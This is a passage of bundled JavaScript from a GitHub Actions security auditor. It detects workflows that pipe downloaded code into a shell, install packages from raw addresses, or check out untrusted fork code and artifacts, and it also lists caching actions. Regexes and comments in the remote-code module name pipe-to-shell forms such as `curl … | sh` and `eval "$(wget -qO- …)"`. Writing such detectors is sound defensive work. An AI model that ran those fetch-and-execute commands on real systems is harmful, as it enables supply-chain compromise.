;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/remote-code.js
// Commands that fetch code by an address and run it at once, without a checkout before it.


/** An address of code, as a whole word or behind a name, a sign of equality or an `@`. */
const address = /(?:^|[@=\s:])(?:(?:git|hg|svn|bzr)\+|git::|github:|gitlab:|git:\/\/|https?:\/\/|ssh:\/\/|git@|oci:\/\/|github\.com\/)/;
/** `owner/name`, whole or in parts by a variable, with a commit behind it or none: what npm takes for a repository on GitHub. */
const shorthand = /^(?:X{4,}|\$\{?\w{1,100}\}?)(?:\/[\w.${}-]{1,100})?(?:#\S{1,300})?$/;
/** The path of a module of Go, some of it by a variable. */
const modulePath = /^[\w.-]{1,100}\.[a-z]{2,20}\/\S{0,300}(?:XXXX|\$)/;
/** Programs with the verbs behind which they install or run what an address names; the empty verb is none at all. */
const remote_code_verbs = {
    pip: ['install', 'download', 'wheel'],
    pip3: ['install', 'download', 'wheel'],
    pipx: ['install', 'run', 'runpip', 'inject'],
    uv: ['pip install', 'tool install', 'tool run', 'run', 'add'],
    uvx: [''],
    npm: ['install', 'i', 'add', 'exec', 'x', 'ci'],
    npx: [''],
    pnpm: ['install', 'i', 'add', 'dlx', 'exec'],
    pnpx: [''],
    yarn: ['add', 'dlx', 'global'],
    bun: ['install', 'i', 'add', 'x', 'run'],
    bunx: [''],
    go: ['run', 'install', 'get'],
    cargo: ['install', 'add', 'binstall'],
    deno: ['run', 'install', 'test', 'eval', 'serve', 'bench'],
    docker: ['build', 'buildx build', 'buildx bake', 'builder build', 'image build'],
    podman: ['build'],
    buildah: ['build', 'bud'],
    nix: ['run', 'build', 'shell', 'develop', 'profile'],
    kubectl: ['apply', 'create', 'replace'],
    oc: ['apply', 'create', 'replace'],
    helm: ['install', 'upgrade'],
    terraform: ['init'],
    tofu: ['init'],
};
const packagers = new Set(['npm', 'npx', 'pnpm', 'pnpx', 'yarn', 'bun', 'bunx']);
/** Words of a command that name the code which it fetches and runs. */
function remoteWords(command) {
    const [, ...args] = command.words;
    const values = args.map(({ value }) => value);
    // `python -m pip install \u2026` is pip.
    const module = /^python[\d.]*$/.test(command.name) && values[0] === '-m' ? values[1] : undefined;
    const name = module === undefined ? command.name : module;
    const given = module === undefined ? args : args.slice(2);
    const own = remote_code_verbs[/^pip[\d.]+$/.test(name) ? 'pip' : name];
    if (own === undefined)
        return [];
    const asked = (0,program_words/* programWords */.O)(name, given.map(({ value }) => value));
    if (!own.some((verb) => verb === '' || verb === asked[0] || verb === asked.slice(0, 2).join(' ')))
        return [];
    return given.filter(({ value }, index) => !isOther(name, given[index - 1]?.value ?? '') && namesCode(name, value));
}
/** Whether the word behind an option is no code: the address of an index, or of what is written. */
function isOther(name, option) {
    return (/^(?:-i|--(?:index|index-url|extra-index-url|default-index|registry|proxy|repo|build-arg|label|tag|set|set-string|values|cache-from|cache-to))$/.test(option) ||
        (name !== 'kubectl' && name !== 'oc' && option === '-t'));
}
function namesCode(name, value) {
    if (/^-(?!-(?:from|git|with|spec|from-module)=|from-module=|f=)/.test(value))
        return false;
    if (/^-/.test(value))
        return address.test(value);
    return address.test(value) || (name === 'go' && modulePath.test(value)) || (packagers.has(name) && shorthand.test(value));
}
/** Addresses under which a file of a repository is given as it is. */
const rawFile = /\braw\.githubusercontent\.com\/|\bgithub\.com\/\S{1,300}\/raw\/|\/contents\/|\bcdn\.jsdelivr\.net\/gh\//;
const remote_code_shells = '(?:ba|da|z|k)?sh';
const languages = 'python[\\d.]{0,5}|node|perl|ruby|php|pwsh|deno|bun';
/** Of what is piped in a program makes code where no other is named: `| bash -s -- x`, `| python3 -`, and not `| python3 -c \u2026`. */
const runsInput = new RegExp(`^[^\\n;&]{0,200}\\|\\s{0,5}(?:sudo\\s{1,3}(?:-\\S{1,10}\\s{1,3})?)?(?:\\S{1,40}/)?(?:${remote_code_shells}|${languages})(?:\\s{0,3}$|\\s{0,3}[\\n;&|)]|\\s{1,3}-(?:\\s|$|s\\b|[abd-oq-z]{1,5}\\s{0,3}[\\n;&|)]))`);
const runsOutput = new RegExp(`(?:^|[\\s;&|(])(?:eval\\s{1,3}["']?(?:\\$\\(|\`)|(?:${remote_code_shells}|${languages})\\s(?:-\\w{1,8}\\s){0,3}-\\w{0,8}[ce]\\s{1,3}["']?(?:\\$\\(|\`)|(?:${remote_code_shells}|${languages}|source|\\.)\\s{1,3}(?:-\\S{1,20}\\s{1,3}){0,3}<\\()\\s{0,5}$`);
/** Words of a request whose answer the script runs: `curl \u2026 | sh`, `bash <(curl \u2026)`, `eval "$(wget -qO- \u2026)"`. */
function requestedCode({ name, words, at }, script) {
    if (name !== 'curl' && name !== 'wget')
        return [];
    const line = script
        .slice(Math.max(0, at.start - 200), at.start)
        .split('\n')
        .at(-1) ?? '';
    if (!runsInput.test(script.slice(at.end, at.end + 300)) && !runsOutput.test(line))
        return [];
    return words.slice(1).filter(({ value }) => /^https?:\/\/|^(?:X{4,}|\$)|github/.test(value));
}
/** File that a request for a file of a repository writes, as the script names it; undefined where it writes none. */
function requestedFile({ name, words, node }) {
    if (name !== 'curl' && name !== 'wget')
        return undefined;
    const values = words.slice(1).map(({ value }) => value);
    const from = values.find((value) => rawFile.test(value));
    if (from === undefined)
        return undefined;
    const redirected = node.redirects.find(({ operator }) => operator === '>' || operator === '>>' || operator === '>|')?.target?.value;
    if (redirected !== undefined)
        return redirected;
    const flag = name === 'curl' ? /^-[a-zA-Z]{0,8}o$|^--output$/ : /^-[a-zA-Z]{0,8}O$|^--output-document$/;
    const at = values.findIndex((value) => flag.test(value));
    if (at >= 0)
        return values[at + 1] === '-' ? undefined : values[at + 1];
    const asNamed = name === 'wget' || values.some((value) => /^-[a-zA-Z]{0,8}O$|^--remote-name$/.test(value));
    return asNamed ? (0,src_script/* baseName */.Fl)(from.replace(/[?#].{0,300}$/, '')) : undefined;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/foreign.js
// What an outsider's files come into a job by: a checkout of their code, an artifact of a run that they set off.












/** Things in one workspace that are told apart. */
const maxLying = 100;
const foreign_nothing = [];
/** @param evaluator asked late, since what it says of files comes from here. */
function foreignFiles(evaluator) {
    const bySteps = new WeakMap();
    const byJob = new WeakMap();
    const timelines = new WeakMap();
    const crowded = new WeakSet();
    return {
        before,
        of,
        isCut,
        unguarded: (run) => (mayBring(run.step) ? broughtBy(run) : foreign_nothing),
    };
    function isCut(run) {
        before(run);
        return run.job !== undefined && crowded.has(run.job);
    }
    function before(run) {
        const { job } = run;
        if (job === undefined)
            return foreign_nothing;
        const known = timelines.get(job) ?? { moments: [], next: 0 };
        timelines.set(job, known);
        const steps = bringing(job);
        while (known.next < steps.length && steps[known.next].order < run.order) {
            const step = steps[known.next++];
            const lying = known.moments.at(-1)?.lying ?? foreign_nothing;
            const after = afterStep(step, lying);
            if (after !== lying)
                known.moments.push({ order: step.order, lying: after });
        }
        return known.moments.findLast(({ order }) => order < run.order)?.lying ?? foreign_nothing;
    }
    function afterStep(step, lying) {
        const own = of(step);
        const cleared = clears(step.step);
        // What is checked out anew takes the place of all that lay there, whoever's it is.
        const left = cleared !== undefined && step.step.if === undefined && lying.length > 0
            ? lying.filter(({ path }) => !isWithin(path, cleared))
            : lying;
        if (own.length === 0)
            return left;
        const all = [...left, ...own];
        if (all.length > maxLying && step.job !== undefined)
            crowded.add(step.job);
        return all.slice(-maxLying);
    }
    /** Steps of a job that may bring files, so that not every step asks all others. */
    function bringing(job) {
        const known = byJob.get(job);
        if (known !== undefined)
            return known;
        const list = job.steps.filter(({ step }) => mayBring(step));
        byJob.set(job, list);
        return list;
    }
    function of(run) {
        const known = bySteps.get(run);
        if (known !== undefined)
            return known;
        bySteps.set(run, foreign_nothing);
        const found = broughtBy(run).flatMap((entry) => reached(entry));
        bySteps.set(run, found);
        return found;
    }
    function broughtBy(run) {
        const { step } = run;
        if (step.run !== undefined)
            return byScript(run);
        const target = step.uses?.target;
        if (target?.kind !== 'repository')
            return foreign_nothing;
        if (target.slug === 'actions/checkout')
            return byCheckout(run);
        if (target.slug === 'actions/download-artifact')
            return byArtifact(run);
        const skips = skipsForks(run);
        if (skips === 'known')
            return foreign_nothing;
        if (foreignDownloads.has(target.slug))
            return artifactOf(run, 'files of an artifact of another run', ['workflow_run'], skips === 'said' ? saidByComment : undefined);
        if (target.slug === 'actions/github-script') {
            const script = (0,parts/* inputOf */.wg)(step, 'script')?.scalar?.text ?? '';
            return /\bdownloadArtifact\b/.test(script) ? artifactOf(run, 'files of an artifact of another run', ['workflow_run']) : foreign_nothing;
        }
        return foreign_nothing;
    }
    /** Only events by which an outsider gets to the step that brings them. */
    function reached(entry) {
        const { source } = entry.taint;
        const events = (source.events ?? []).filter((event) => (0,graph_reach/* reachOfStep */.L)(entry.run, event, 'code') !== 'never');
        return events.length === 0 ? foreign_nothing : [{ ...entry, taint: { ...entry.taint, source: { ...source, events } } }];
    }
    function byCheckout(run) {
        const { step } = run;
        const scope = scopeOfStep(run);
        const of = (input) => {
            const scalar = (0,parts/* inputOf */.wg)(step, input)?.scalar;
            return scalar === undefined ? [] : evaluator().ofScalar(scalar, scope);
        };
        // Whoever writes the name of a repository names one of theirs.
        const taints = [
            ...of('ref').filter(({ source }) => source.code),
            ...of('repository').filter(({ source }) => source.code || source.text),
        ].filter(({ source }) => source.writer === 'outsider');
        const own = (0,parts/* inputOf */.wg)(step, 'repository') === undefined;
        const refused = refusedUnder(run);
        return taints
            .flatMap((taint) => refused.unless === undefined
            ? pastRefusal(run, taint, refused.events)
            : [...pastRefusal(run, taint, refused.events), ...underRefusal(run, taint, refused.events, refused.unless)])
            .map((taint) => checkoutOf(run, own ? weakened(taint) : taint, foreign_pathOf(step)));
    }
    function checkoutOf(run, taint, path) {
        const step = {
            file: run.file.file,
            at: run.step.uses?.scalar.at ?? run.step.map.at,
            message: 'the code that it names is checked out',
        };
        return {
            run,
            kind: 'checkout',
            path,
            taint: { source: { ...taint.source, lines: true, text: true, code: true }, steps: [...taint.steps, step] },
        };
    }
    function byArtifact(run) {
        const { step, job } = run;
        if ((0,parts/* inputOf */.wg)(step, 'run-id') !== undefined)
            return artifactOf(run, 'files of an artifact of another run', ['workflow_run']);
        return job === undefined ? foreign_nothing : fromEarlierJobs(run, job);
    }
    /** @param unless what is not known, and would keep it out. */
    function artifactOf(run, name, events, unless) {
        const own = run.job === undefined ? [] : (0,graph_reach.eventsOf)(run.job).filter((event) => events.includes(event));
        if (own.length === 0)
            return foreign_nothing;
        const at = run.step.uses?.scalar.at ?? run.step.run?.at ?? run.step.map.at;
        return [
            {
                run,
                kind: 'artifact',
                path: unpackedTo(run) ?? joinedPath(handedPath(run), folderByName(run.step)),
                taint: {
                    source: {
                        name,
                        writer: 'outsider',
                        lines: true,
                        text: true,
                        code: true,
                        events: own,
                        ...(unless === undefined ? {} : { weak: true, unless }),
                    },
                    steps: [{ file: run.file.file, at, message: `${name} are brought in; whoever set that run off decides what is in them` }],
                },
            },
        ];
    }
    /** What a job before put up with an outsider's files in its workspace. */
    function fromEarlierJobs(run, job) {
        const found = [];
        for (const upload of (0,taint_uploads/* uploadsTaken */.s1)(run)) {
            const needed = job.job.needs.some((need) => job.within.jobs.get(need.text.toLowerCase()) === upload.job);
            const [entry] = needed ? before(upload) : [];
            if (entry === undefined)
                continue;
            const steps = [
                ...entry.taint.steps,
                {
                    file: upload.file.file,
                    at: upload.step.uses?.scalar.at ?? upload.step.map.at,
                    message: 'a job puts files of that workspace up as an artifact',
                },
                { file: run.file.file, at: run.step.uses?.scalar.at ?? run.step.map.at, message: 'this job takes the artifact' },
            ];
            found.push({ run, kind: 'artifact', path: foreign_pathOf(run.step), taint: { ...entry.taint, steps } });
        }
        return found.slice(0, maxLying);
    }
    function byScript(run) {
        const script = run.step.run;
        if (script === undefined || !mayFetch(script.text))
            return foreign_nothing;
        const commands = (0,step_script/* stepScript */.M)(run.step)?.facts.commands ?? [];
        if (commands.length === 0)
            return foreign_nothing;
        const masked = (0,src_script/* maskedText */.$O)(script.text);
        return commands.flatMap((command) => byCommand(run, script, command, masked)).slice(0, maxLying);
    }
    function byCommand(run, script, command, masked) {
        const step = {
            file: run.file.file,
            at: (0,scalar_text/* scalarText */.w)(run.file.file.text, script).spanOf(command.at.start, command.at.end),
            message: 'the code of the pull request is checked out',
        };
        const how = bringsBy(command, masked);
        const from = lyingFrom(command, masked);
        if (how === 'artifact')
            return artifactOf(run, 'files of an artifact of another run', ['workflow_run']).map((entry) => ({
                ...entry,
                ...from,
                path: downloadFolder(command),
            }));
        if (how === 'pull' || (appliesPatch(command) && fetchesPatch(run)))
            return [{ ...pullOf(run, step), ...from }];
        const named = how === 'named' ? namedBy(run, script, command, masked) : undefined;
        if (named === undefined)
            return [];
        // One file lies under its own name, and nothing else is theirs.
        const file = requestedFile(command);
        if (file === undefined && !foreign_isWhole(command))
            return [];
        return [{ ...checkedOut(run, named, step, from), ...(file === undefined ? {} : { path: (0,taint_parts/* filePath */.s$)(file) }) }];
    }
    /** What an outsider gives for the code that a command takes. */
    function namedBy(run, script, command, masked) {
        // A number names code as that of a pull request alone.
        const ofPull = /pulls?\b|\bpr\b/i.test(masked) || run.step.env.some(({ scalar }) => /pulls?\//.test(scalar?.text ?? ''));
        const all = evaluator()
            .ofParts(takenParts(command), script, run)
            .filter(({ source }) => source.code && source.writer === 'outsider' && (ofPull || !/\bissue\.number$/.test(source.name)));
        const named = all.find(({ source }) => ofRepository.test(source.name)) ?? all[0];
        return named === undefined || ofRepository.test(named.source.name) || /\bremote add\b|head\.repo|head_repository|https?:/.test(masked)
            ? named
            : weakened(named);
    }
    function pullOf(run, step) {
        const events = run.job === undefined ? [] : (0,graph_reach.eventsOf)(run.job).filter((event) => /^(?:pull_request|issue_comment$|workflow_run$)/.test(event));
        return {
            run,
            kind: 'checkout',
            path: '',
            taint: { source: { name: 'the pull request', writer: 'outsider', lines: true, text: true, code: true, events }, steps: [step] },
        };
    }
}
function checkedOut(run, { source, steps }, step, from) {
    return { run, kind: 'checkout', path: '', taint: { source: { ...source, lines: true, text: true }, steps: [...steps, step] }, ...from };
}
/** Ways to a repository of the outsider's: with it, a branch is one of theirs. */
const ofRepository = /\.(?:repo|head_repository)\./;
/** A name of a branch leads to a branch of the repository itself; only a commit or the number of a pull request leads to a fork's. */
function weakened(taint) {
    return /(?:head_ref|head\.ref|head_branch|headRefName)$/.test(taint.source.name)
        ? { ...taint, source: { ...taint.source, weak: true } }
        : taint;
}
/** Events under which a step's release of actions/checkout refuses what it is asked for, where that is a fork's. */
function refusedUnder({ step, file }) {
    const target = step.uses?.target;
    if (step.uses === undefined || target?.kind !== 'repository')
        return nothingRefused;
    const how = refusesForks(target, (0,uses_comment/* usesComment */.f)(step.uses, file.file));
    if (how === undefined)
        return nothingRefused;
    const events = refusedEvents(step);
    if (how === 'known')
        return { events };
    return {
        events,
        unless: how === 'said'
            ? saidByComment
            : `\`${target.ref}\` of actions/checkout refuses a fork\u2019s code, as on github.com it does since July 2026`,
    };
}
const nothingRefused = { events: [] };
const saidByComment = 'its commit is of the release that the comment behind it names';
function refusedEvents(step) {
    // Whatever is not false letter by letter may let them through.
    const said = (0,parts/* inputOf */.wg)(step, 'allow-unsafe-pr-checkout');
    if (said !== undefined && !/^\s*(?:false)?\s*$/i.test(said.scalar?.text ?? 'unknown'))
        return [];
    const [ref, repository] = ['ref', 'repository'].map((input) => (0,parts/* inputOf */.wg)(step, input)?.scalar?.text.trim() ?? '');
    if (refusedCommit.test(ref) || refusedRepository.test(repository))
        return ['pull_request_target', 'workflow_run'];
    // What set off the run before may be no pull request: then a number is as good as any.
    return refusedNumber.test(ref) ? ['pull_request_target'] : [];
}
/** The commits, refs and repositories that it holds against the event; what else leads to a fork it does not tell apart. */
const refusedCommit = /^\$\{\{\s*github\.event\.(?:pull_request\.(?:head\.sha|merge_commit_sha)|workflow_run\.(?:head_sha|head_commit\.id))(?:\s*\|\|\s*github\.(?:sha|ref))?\s*\}\}$/;
const refusedNumber = /^refs\/pull\/\$\{\{[^{}]{1,200}\}\}\/(?:head|merge)$/;
const refusedRepository = /^\$\{\{\s*github\.event\.(?:pull_request\.head\.repo|workflow_run\.head_repository)\.full_name(?:\s*\|\|\s*github\.repository)?\s*\}\}$/;
/** What comes under those events under which nothing is refused. */
function pastRefusal({ job }, taint, refused) {
    if (refused.length === 0)
        return [taint];
    const events = (taint.source.events ?? (job === undefined ? [] : (0,graph_reach.eventsOf)(job))).filter((event) => !refused.includes(event));
    return events.length === 0 ? [] : [{ ...taint, source: { ...taint.source, events } }];
}
/** What comes under the others where it is a release that refuses nothing. */
function underRefusal({ job }, taint, refused, unless) {
    const events = (taint.source.events ?? (job === undefined ? [] : (0,graph_reach.eventsOf)(job))).filter((event) => refused.includes(event));
    return events.length === 0 ? [] : [{ ...taint, source: { ...taint.source, events, weak: true, unless } }];
}
/** Actions that bring an artifact of another run. */
const foreignDownloads = new Set([
    'dawidd6/action-download-artifact',
    'aochmann/actions-download-artifact',
    'bettermarks/action-artifact-download',
    'levonet/action-download-last-artifact',
    'redhat-plumbers-in-action/download-artifact',
    'ishworkh/multi-docker-image-artifact-download',
    'marcofaggian/action-download-multiple-artifacts',
    'blablacar/action-download-last-artifact',
]);
/**
 * Whether dawidd6/action-download-artifact looks for a run itself, and passes over those of forks: since version 4, unless it is told to
 * take them, or to take runs of `push` alone. Source: action.yml and main.js of its tags, looked up 2026-11-30.
 */
function skipsForks({ step, file }) {
    const { uses } = step;
    if (uses?.target.kind !== 'repository' || uses.target.slug !== 'dawidd6/action-download-artifact')
        return undefined;
    const said = (input) => (0,parts/* inputOf */.wg)(step, input)?.scalar?.text.trim() ?? '';
    if (said('run_id') !== '')
        return undefined;
    if (said('event') === 'push')
        return 'known';
    const { version: [major = 0] = [], proved } = (0,uses_comment/* releaseOfUse */.y)(uses, file.file) ?? {};
    if (major < 4 || !/^(?:false)?$/i.test(said('allow_forks')))
        return undefined;
    return proved === true ? 'known' : 'said';
}
/** Whether a script has the words without which none brings an outsider's files: what `bringsBy` and `appliesPatch` look for. */
function mayFetch(text) {
    return ((/\bgit\s/.test(text) &&
        /\b(?:checkout|switch|merge|reset|pull|cherry-pick|worktree|clone|rebase|fetch|submodule|apply|am)\b/.test(text)) ||
        (/\bgh\s/.test(text) && /\b(?:checkout|download|clone)\b/.test(text)) ||
        (/\b(?:curl|wget)\s/.test(text) && (sourceArchive.test(text) || rawFile.test(text))) ||
        /\bhub\s|\bpatch\s/.test(text));
}
const foreign_bringers = new Set(['actions/checkout', 'actions/download-artifact', 'actions/github-script']);
function mayBring({ run, uses }) {
    if (run !== undefined)
        return mayFetch(run.text);
    return uses?.target.kind === 'repository' && (foreign_bringers.has(uses.target.slug) || foreignDownloads.has(uses.target.slug));
}
/**
 * Path that a checkout fills anew: it deletes what lies there, or has git do so, unless told to leave it.
 * Source: src/git-directory-helper.ts of actions/checkout, which removes each entry of a folder that is no clone of the repository.
 */
function clears(step) {
    const target = step.uses?.target;
    if (target?.kind !== 'repository' || target.slug !== 'actions/checkout')
        return undefined;
    const clean = (0,parts/* inputOf */.wg)(step, 'clean')?.scalar?.text.trim() ?? 'true';
    return /^true$/i.test(clean) ? foreign_pathOf(step) : undefined;
}
/** Whether a path of the workspace is a folder or lies in it; what is named by an expression, a variable or from the root may lie elsewhere. */
function isWithin(path, folder) {
    if (path === folder)
        return true;
    return folder === '' ? !/^[/~$\\]|^\.\.(?:\/|$)|^[A-Za-z]:|\$\{\{/.test(path) : path.startsWith(`${folder}/`);
}
function foreign_pathOf(step) {
    return pathOfText((0,parts/* inputOf */.wg)(step, 'path')?.scalar?.text ?? '');
}
function pathOfText(text) {
    return (0,taint_parts/* filePath */.s$)(text.trim());
}
/** The same where an action takes it from an input that the step which uses it gives letter by letter. */
function handedPath(run) {
    return asHanded(foreign_pathOf(run.step), run);
}
/** A path that is an input of the action which a step is of, as the step that uses the action gives it. */
function asHanded(path, { parent }) {
    const name = /^\$\{\{\s{0,5}inputs\.([\w-]{1,100})\s{0,5}\}\}$/.exec(path)?.[1];
    const given = name === undefined || parent === undefined ? undefined : (0,parts/* inputOf */.wg)(parent.step, name)?.scalar?.text;
    if (given === undefined || parent === undefined)
        return path;
    const handed = pathOfText(given);
    return handed === '' ? path : asHanded(handed, parent);
}
/** The folder in which later steps unpack what actions/github-script wrote as an archive, where they all name that one. */
function unpackedTo(run) {
    const target = run.step.uses?.target;
    if (target?.kind !== 'repository' || target.slug !== 'actions/github-script')
        return undefined;
    const folders = new Set();
    for (const later of run.job?.steps ?? []) {
        if (later.order <= run.order || later.step.run === undefined || !later.step.run.text.includes('unzip'))
            continue;
        for (const { name, words } of (0,step_script/* stepScript */.M)(later.step)?.facts.commands ?? []) {
            if (name !== 'unzip')
                continue;
            const args = words.map(({ text }) => text);
            const at = args.findIndex((arg) => /^-[a-zA-Z]*d$/.test(arg));
            folders.add(at < 0 ? '' : asHanded(pathOfText(args[at + 1] ?? ''), later));
        }
    }
    const [only] = folders;
    return folders.size === 1 && only !== undefined && only !== '' && !/[$`]/.test(only) ? only : undefined;
}
/**
 * Folder of its own in which dawidd6/action-download-artifact puts each artifact that an expression finds by its name; empty where files come
 * into the folder asked for itself, or any name fits. Source: its main.js, looked up 2026-11-30.
 */
function folderByName(step) {
    const target = step.uses?.target;
    const said = (input) => (0,parts/* inputOf */.wg)(step, input)?.scalar?.text.trim() ?? '';
    if (target?.kind !== 'repository' || target.slug !== 'dawidd6/action-download-artifact')
        return '';
    if (said('name_is_regexp') !== 'true' || !/^(?:false)?$/.test(said('merge_multiple')))
        return '';
    const plain = said('name')
        .replace(/\([\w-]{1,50}\)\?/g, '')
        .replace(/^\^|\.\*\$?$|\$$/g, '');
    return /^[\w-]+$/.test(plain) ? plain : '';
}
function joinedPath(folder, name) {
    return folder === '' || name === '' ? folder + name : `${folder}/${name}`;
}
const checkoutVerbs = new Set([
    'checkout',
    'switch',
    'merge',
    'reset',
    'pull',
    'cherry-pick',
    'worktree',
    'clone',
    'rebase',
    'fetch',
    'submodule',
]);
/** Of `hub`, what takes over the code of a pull request. */
const hubTakes = /^(?:(?:checkout|merge|am)\b|pr checkout\b)/;
/** How a command brings an outsider's files, if it does: by an artifact, by the number of a pull request, by a name that it is given. */
function bringsBy({ name, words }, script) {
    const args = words.slice(1).map(({ value }) => value);
    const plain = (0,program_words/* programWords */.O)(name, args);
    const [verb, action] = plain;
    if (name === 'gh') {
        if (verb === 'pr' && action === 'checkout')
            return 'pull';
        if (verb === 'run' && action === 'download')
            return 'artifact';
        return verb === 'repo' && action === 'clone' ? 'named' : undefined;
    }
    if (name === 'curl' || name === 'wget')
        return args.some((arg) => sourceArchive.test(arg) || rawFile.test(arg)) ? 'named' : undefined;
    if (name === 'hub')
        return hubTakes.test(plain.slice(0, 2).join(' ')) ? 'pull' : undefined;
    if (name !== 'git')
        return undefined;
    const own = plain.find((arg) => checkoutVerbs.has(arg));
    if (own === undefined)
        return undefined;
    if (args.some((arg) => /(?:^|\/|\+|:)pull\/.{1,200}\/(?:head|merge)/.test(arg)))
        return own === 'fetch' && !takesOver.test(script) ? undefined : 'pull';
    return own === 'fetch' && !takesOver.test(script) ? undefined : 'named';
}
/** Addresses under which GitHub gives the files of a commit. */
const sourceArchive = /\/(?:archive|tarball|zipball|(?:legacy\.)?(?:tar\.gz|zip))\//;
/** Whether what a command brings is all of a repository: what is asked for as one file and written nowhere lies in no folder. */
function foreign_isWhole({ name, words }) {
    return (name !== 'curl' && name !== 'wget') || words.some(({ value }) => sourceArchive.test(value));
}
/** Whether a command changes files by a patch that it is given. */
function appliesPatch({ name, words }) {
    if (name === 'patch')
        return true;
    const [verb] = (0,program_words/* programWords */.O)(name, words.slice(1).map(({ value }) => value));
    return name === 'git' && (verb === 'apply' || verb === 'am');
}
/** The difference that a pull request makes, by the commands and addresses under which GitHub gives it. */
const pullPatch = /\bgh\s(?:[^\n|;]{0,60}\s)?pr\s{1,5}diff\b|\b(?:curl|wget|gh\s{1,5}api)\b[^\n]{0,300}\/pulls?\/|\bpull_request\.(?:diff|patch)_url\b|\bvnd\.github\.(?:v3\.)?(?:diff|patch)\b/;
/** Whether this step, or one before it, fetches the difference that a pull request makes. */
function fetchesPatch(run) {
    return (run.job?.steps ?? []).some(({ step, order }) => order <= run.order &&
        step.run !== undefined &&
        [step.run, ...step.env.map(({ scalar }) => scalar)].some((scalar) => pullPatch.test(scalar?.text ?? '')));
}
/** What is fetched is only theirs once it is checked out. */
const takesOver = /\bgit\s(?:[^\n]{0,60}\s)?(?:checkout|switch|merge|reset|worktree|rebase|cherry-pick)(?![\w-])/;
/** From where on in a script the files lie there: behind the command, of a fetch behind what takes it over. */
function lyingFrom({ name, words, at }, script) {
    if (name !== 'git' || !words.some(({ value }) => value === 'fetch'))
        return { from: at.end };
    const taken = takesOver.exec(script.slice(at.end));
    return taken === null ? {} : { from: at.end + taken.index + taken[0].length };
}
/** What a `gh run download` puts the files in, as it is written; the root where that is not to be known. */
function downloadFolder({ words }) {
    const args = words.map(({ value }) => value);
    const next = args.findIndex((arg) => arg === '--dir' || arg === '-D');
    const joint = args.find((arg) => /^(?:--dir=|-D.)/.test(arg));
    const folder = (0,taint_parts/* folderOf */.yS)((next < 0 ? joint?.replace(/^(?:--dir=|-D=?)/, '') : args[next + 1]) ?? '');
    return /^\$[^/]*$|^\$\{?(?:GITHUB_WORKSPACE|PWD)\b|^\.\.(?:\/|$)/.test(folder) ? '' : folder;
}
/** Options behind which a new branch is named: nothing is checked out by that name. */
const newBranch = new Set(['-b', '-B', '-c', '-C', '--create', '--force-create', '--orphan']);
/** What decides which code a command takes. */
function takenParts({ name, words, parts, fed, partsOf }) {
    const args = words.slice(1);
    const verb = args.findIndex(({ value }) => value === 'checkout' || value === 'switch' || value === 'worktree');
    if (name !== 'git' || verb < 0)
        return parts;
    return (0,taint_parts/* joined */.oR)([...args.filter((_, i) => i <= verb + 1 || !newBranch.has(args[i - 1]?.value ?? '')).map(partsOf), fed]);
}

// EXTERNAL MODULE: ./build/bundled/packages/formats/src/snippet/index.js + 1 modules
var snippet = __webpack_require__(9439);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/json-value.js
// JSON in JavaScript: where it stands as a value of its own, whatever is in it stays data.



/**
 * Which expressions of a script in JavaScript are `toJSON(\u2026)` in the place of a value: in no text, template, pattern or comment.
 * @returns their numbers, in the order in which they stand.
 */
function jsonValues(script) {
    const json = (0,find/* expressionsIn */.l)(script).flatMap(({ span, text }, index) => (isJson(text) ? [{ span, index }] : []));
    if (json.length === 0)
        return new Set();
    const names = new Set();
    for (const { tokens } of (0,snippet/* readSnippet */.g)((0,src_script/* maskedText */.$O)(script), 'javascript').statements)
        collect(tokens, names);
    return new Set(json.filter(({ span }) => names.has(`${span.start} ${span.end}`)).map(({ index }) => index));
}
function isJson(text) {
    const tree = (0,parse/* parseExpression */.YK)(text);
    return tree.kind === 'call' && tree.name.toLowerCase() === 'tojson';
}
/** Places of names, those in the expressions of a template too. */


;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/caching.js
// Which steps restore a cache of GitHub's.

/** Facts: what the actions are known to do, November 2026; not held row by row against their documentation. */
const caching_known = {
    'actions/cache': { unless: ['lookup-only'], off: ['lookup-only', 'true'] },
    'actions/cache/restore': { unless: [], off: undefined },
    'actions/setup-node': { on: ['cache'], unless: ['package-manager-cache'], off: ['package-manager-cache', 'false'] },
    'actions/setup-python': { on: ['cache'], off: undefined },
    'actions/setup-java': { on: ['cache'], off: undefined },
    'actions/setup-dotnet': { on: ['cache'], off: undefined },
    'actions/setup-go': { unless: ['cache'], off: ['cache', 'false'] },
    'astral-sh/setup-uv': { unless: ['enable-cache'], off: ['enable-cache', 'false'] },
    'swatinem/rust-cache': { unless: ['lookup-only'], off: ['lookup-only', 'true'] },
    'actions-rust-lang/setup-rust-toolchain': { unless: ['cache'], off: ['cache', 'false'] },
    'ruby/setup-ruby': { on: ['bundler-cache'], off: undefined },
    'gradle/actions/setup-gradle': { unless: ['cache-disabled'], off: ['cache-disabled', 'true'] },
    'docker/setup-buildx-action': { given: 'version', unless: ['cache-binary'], off: ['cache-binary', 'false'] },
    'gradle/gradle-build-action': { unless: ['cache-disabled'], off: ['cache-disabled', 'true'] },
    'graalvm/setup-graalvm': { on: ['cache'], off: undefined },
    'oven-sh/setup-bun': { unless: ['no-cache'], off: ['no-cache', 'true'] },
    'jdx/mise-action': { unless: ['cache'], off: ['cache', 'false'] },
    'mozilla-actions/sccache-action': { unless: [], off: undefined },
    'mlugg/setup-zig': { unless: ['use-cache'], off: ['use-cache', 'false'] },
    'nix-community/cache-nix-action': { unless: [], off: undefined },
    'determinatesystems/magic-nix-cache-action': { unless: ['use-gha-cache'], off: ['use-gha-cache', 'false'] },
    'awalsh128/cache-apt-pkgs-action': { unless: [], off: undefined },
    'ramsey/composer-install': { unless: ['ignore-cache'], off: ['ignore-cache', 'true'] },
    'prefix-dev/setup-pixi': { on: ['cache'], off: undefined },
};
/** How a step restores a cache, by what its inputs say; undefined where it restores none. */
function cachingOf(step) {
    const caching = caching_known[(0,parts/* actionName */.aM)(step) ?? ''];
    return caching !== undefined && caches(step, caching) ? caching : undefined;
}
function caches(step, { given, on, unless }) {
    if (given !== undefined && (0,parts/* inputOf */.wg)(step, given) === undefined)
        return false;
    if (on?.some((input) => isSet((0,parts/* inputText */.AN)(step, input))) === true)
        return true;
    if (unless === undefined)
        return false;
    return !unless.some((input) => {
        const text = (0,parts/* inputText */.AN)(step, input);
        if (text === undefined)
            return false;
